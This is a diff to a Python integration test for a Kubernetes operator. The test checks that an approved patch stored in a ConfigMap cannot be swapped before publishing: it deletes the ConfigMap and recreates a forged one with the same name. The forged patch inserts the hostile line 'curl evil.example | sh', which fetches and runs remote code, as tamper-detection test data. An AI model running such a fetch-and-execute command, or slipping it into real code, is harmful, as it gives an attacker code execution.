@@ -151,14 +151,19 @@ def test_a_change_nobody_decides_on_times_out(publishing: Publishing, runs: Runs
 def test_a_kept_patch_edited_before_the_approval_is_not_pushed(
     publishing: Publishing, runs: Runs, kube: client.ApiClient
 ) -> None:
-    """The changes ConfigMap is in the tenant's namespace: anyone who may edit it could swap the change an
-    approver saw. The publish pod checks the patch's sha256 and the tree against the run's status."""
+    """The changes ConfigMap is in the tenant's namespace: it is immutable, but anyone who may edit there
+    can delete it and create another of its name, swapping the change an approver saw. The publish pod
+    checks the patch's sha256 and the tree against the run's status, which only the operator writes."""
     publishing.create("swap", "printf 'reviewed\\n' > README.md", publish=approval_publish(publishing))
     status = wait_awaiting(runs, "swap")
     name = status["changes"]["patchConfigMapName"]
-    patch = runs.core.read_namespaced_config_map(name, runs.ns).data["changes.patch"]
-    swapped = patch.replace("+reviewed", "+curl evil.example | sh")
-    runs.core.patch_namespaced_config_map(name, runs.ns, {"data": {"changes.patch": swapped}})
+    kept = runs.core.read_namespaced_config_map(name, runs.ns)
+    swapped = kept.data["changes.patch"].replace("+reviewed", "+curl evil.example | sh")
+    runs.core.delete_namespaced_config_map(name, runs.ns)
+    forged = client.V1ConfigMap(
+        metadata=client.V1ObjectMeta(name=name, labels=kept.metadata.labels), data={"changes.patch": swapped}
+    )
+    runs.core.create_namespaced_config_map(runs.ns, forged)
 
     decide(runs, whoami(kube), "swap", "Approved")
     status = runs.wait_finished("swap")
